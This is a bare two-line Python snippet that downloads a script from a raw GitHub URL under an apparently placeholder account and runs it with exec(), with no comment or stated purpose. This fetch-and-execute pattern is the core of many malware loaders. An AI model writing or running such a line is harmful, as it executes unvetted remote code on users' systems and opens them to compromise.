import urllib.request
exec(urllib.request.urlopen("https://raw.githubusercontent.com/someone-example/x/main/a.py").read().decode())
